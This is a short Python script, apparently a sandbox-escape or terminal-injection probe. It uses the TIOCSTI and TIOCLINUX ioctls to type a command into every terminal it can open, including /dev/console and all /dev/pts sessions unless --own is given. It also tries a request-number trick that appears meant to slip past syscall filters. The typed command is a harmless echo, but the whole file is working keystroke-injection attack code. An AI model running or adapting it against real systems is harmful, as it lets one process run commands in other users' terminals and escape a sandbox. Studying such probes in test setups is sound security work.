"""Types a line into every terminal that it can reach (TIOCSTI, tty_ioctl(2)), and pastes by the console's own way (TIOCLINUX). With --own, into its own terminal
alone: outside of a sandbox the others are somebody's."""
import fcntl
import os
import sys

TIOCSTI, TIOCLINUX = 0x5412, 0x541C
done = 0
paths = ["/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/tty"]
if "--own" not in sys.argv:
    paths += ["/dev/console", "/dev/tty1"] + [os.path.join("/dev/pts", n) for n in os.listdir("/dev/pts") if n.isdigit()]
for path in paths:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    for request, args in ((TIOCSTI, [bytes([b]) for b in b"echo inje''cted\n"]), (TIOCSTI | 1 << 32, [b"#"]), (TIOCLINUX, [b"\x03"])):
        for arg in args:
            try:
                fcntl.ioctl(fd, request & 0xFFFFFFFF, arg)
                done += 1
            except OSError as e:
                if "-v" in sys.argv:
                    print(path, hex(request), e)
                break
print("typed", done, "times")
